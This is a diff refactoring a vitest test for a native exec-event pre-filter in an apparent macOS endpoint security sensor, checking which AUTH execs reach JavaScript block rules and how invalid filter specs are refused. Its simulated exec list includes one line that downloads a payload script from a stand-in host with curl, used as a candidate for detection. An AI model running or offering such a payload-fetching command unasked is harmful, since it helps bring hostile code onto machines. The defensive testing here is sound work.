@@ -1,40 +1,20 @@
 // The native pre-filter: AUTH execs no block rule can match are allowed in native code and still reported;
 // only candidates go to JavaScript; a spec the native side cannot honour exactly is refused.
-import { afterEach, beforeAll, describe, expect, it } from "vitest";
+import { describe, expect, it } from "vitest";
 
-import type { RawEvent } from "../../src/sensor/rawEvent.js";
-import { type EsHandle, type EsTestAddon, type MessageSpec, type PrefilterSpec, loadEsTestAddon, until } from "./es-standin/loadAddon.js";
+import { type EsHandle, type MessageSpec, type PrefilterSpec, until } from "./es-standin/loadAddon.js";
+import { recordEsSessions } from "./es-standin/session.js";
 
-let addon: EsTestAddon;
-let handle: EsHandle | undefined;
-let events: RawEvent[] = [];
+const es = recordEsSessions((addon) => expect(addon.standin.state()).toMatchObject({ killed: false, violations: [] }));
 const toJs: string[] = [];
 
-beforeAll(() => {
-  addon = loadEsTestAddon();
-}, 300_000);
-
-afterEach(() => {
-  if (handle) addon.stopEs(handle);
-  handle = undefined;
-  expect(addon.standin.state()).toMatchObject({ killed: false, violations: [] });
-  addon.standin.reset();
-});
-
+/** A session with this pre-filter whose JavaScript side records each AUTH exec it sees and allows it. */
 function start(prefilter: PrefilterSpec | null | undefined): EsHandle {
-  events = [];
   toJs.length = 0;
-  const h = addon.startEs({ authExec: true, prefilter }, (batch) => {
-    for (const ev of batch) {
-      events.push(ev);
-      if (ev.auth) {
-        toJs.push(String(ev.args?.join(" ")));
-        addon.respond(h, ev.auth.id, true);
-      }
-    }
+  return es.start({ authExec: true, prefilter }, (ev, h) => {
+    toJs.push(String(ev.args?.join(" ")));
+    es.addon.respond(h, ev.auth!.id, true);
   });
-  handle = h;
-  return h;
 }
 
 function exec(executable: string, args: (string | Uint8Array)[]): MessageSpec {
@@ -51,8 +31,8 @@ const execs: MessageSpec[] = [
 ];
 
 async function run(specs: MessageSpec[]): Promise<void> {
-  addon.standin.enqueue(specs);
-  await until(() => events.length === specs.length && addon.standin.authRecords().every((r) => r.answers === 1), "every exec answered and reported");
+  es.addon.standin.enqueue(specs);
+  await until(() => es.events.length === specs.length && es.addon.standin.authRecords().every((r) => r.answers === 1), "every exec answered and reported");
 }
 
 describe("pre-filter", () => {
@@ -65,10 +45,10 @@ describe("pre-filter", () => {
       "osascript -e display dialog",
       "curl -o /tmp/x https://example.com/payload.sh",
     ]);
-    expect(events.map((e) => e.executable)).toEqual(execs.map((e) => e.target!.executable));
-    expect(events.filter((e) => !e.auth).map((e) => e.args?.[0])).toEqual(["ls", "git"]);
-    expect(addon.standin.authRecords().every((r) => r.result === "allow" && r.cache === false)).toBe(true);
-    expect(addon.esStats(h)).toMatchObject({ prefiltered: 2, authToJs: 4, received: 6 });
+    expect(es.events.map((e) => e.executable)).toEqual(execs.map((e) => e.target!.executable));
+    expect(es.events.filter((e) => !e.auth).map((e) => e.args?.[0])).toEqual(["ls", "git"]);
+    expect(es.addon.standin.authRecords().every((r) => r.result === "allow" && r.cache === false)).toBe(true);
+    expect(es.addon.esStats(h)).toMatchObject({ prefiltered: 2, authToJs: 4, received: 6 });
   });
 
   it("no pre-filter: every AUTH exec goes to JavaScript", async () => {
@@ -81,7 +61,7 @@ describe("pre-filter", () => {
     const h = start({});
     await run(execs);
     expect(toJs).toEqual([]);
-    expect(addon.esStats(h).prefiltered).toBe(execs.length);
+    expect(es.addon.esStats(h).prefiltered).toBe(execs.length);
   });
 
   it("arguments or basenames with non-ASCII bytes are always candidates (ASCII folding is not Unicode folding)", async () => {
@@ -99,22 +79,22 @@ describe("pre-filter", () => {
     const h = start({ argEquals: ["nothing-matches-this"] });
     await run([execs[0]]);
     expect(toJs).toEqual([]);
-    addon.setPrefilter(h, { executableBasename: ["ls"] });
-    events = [];
+    es.addon.setPrefilter(h, { executableBasename: ["ls"] });
+    es.events = [];
     await run([execs[0]]);
     expect(toJs).toEqual(["ls -la /tmp"]);
-    addon.setPrefilter(h, null);
-    events = [];
+    es.addon.setPrefilter(h, null);
+    es.events = [];
     await run([execs[4]]);
     expect(toJs).toEqual(["ls -la /tmp", "git status"]);
   });
 
   it("refuses specs it could not honour exactly, naming the problem", () => {
     const h = start(null);
-    expect(() => addon.setPrefilter(h, { argRegex: ["x"] } as unknown as PrefilterSpec)).toThrow(/unknown key "argRegex"/);
-    expect(() => addon.setPrefilter(h, { argEquals: ["caf\u00e9"] })).toThrow(/argEquals.*not ASCII/);
-    expect(() => addon.setPrefilter(h, { argEquals: [3 as unknown as string] })).toThrow(/argEquals\[0\] must be a string/);
-    expect(() => addon.setPrefilter(h, { argContains: "x" as unknown as string[] })).toThrow(/argContains must be an array/);
-    expect(() => addon.setPrefilter(h, ["x"] as unknown as PrefilterSpec)).toThrow(/object or null/);
+    expect(() => es.addon.setPrefilter(h, { argRegex: ["x"] } as unknown as PrefilterSpec)).toThrow(/unknown key "argRegex"/);
+    expect(() => es.addon.setPrefilter(h, { argEquals: ["caf\u00e9"] })).toThrow(/argEquals.*not ASCII/);
+    expect(() => es.addon.setPrefilter(h, { argEquals: [3 as unknown as string] })).toThrow(/argEquals\[0\] must be a string/);
+    expect(() => es.addon.setPrefilter(h, { argContains: "x" as unknown as string[] })).toThrow(/argContains must be an array/);
+    expect(() => es.addon.setPrefilter(h, ["x"] as unknown as PrefilterSpec)).toThrow(/object or null/);
   });
 });
